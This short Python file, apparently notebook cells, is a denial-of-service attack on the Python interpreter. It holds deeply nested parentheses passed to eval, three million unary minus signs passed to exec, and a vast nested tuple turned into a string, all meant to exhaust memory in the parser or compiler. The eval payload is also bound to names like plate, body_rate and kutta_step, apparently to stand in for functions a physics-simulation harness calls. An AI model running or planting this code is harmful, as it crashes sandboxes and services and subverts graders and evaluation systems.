# Attack: source that takes the parser or the compiler gigabytes.
# %%
def attack(*arguments):
    return eval("(" * 100_000 + ")" * 100_000)


plate = body_rate = gyrostat_rate = air_force = kutta_step = march = flip_time = swing = attack
# %%
exec("-" * 3_000_000 + "1")
# %%
x = ((((((((((10**8,) * 1000,) * 1000,) * 1000,) * 1000,) * 1000,) * 1000,) * 1000,) * 1000,) * 10,)
str(x)
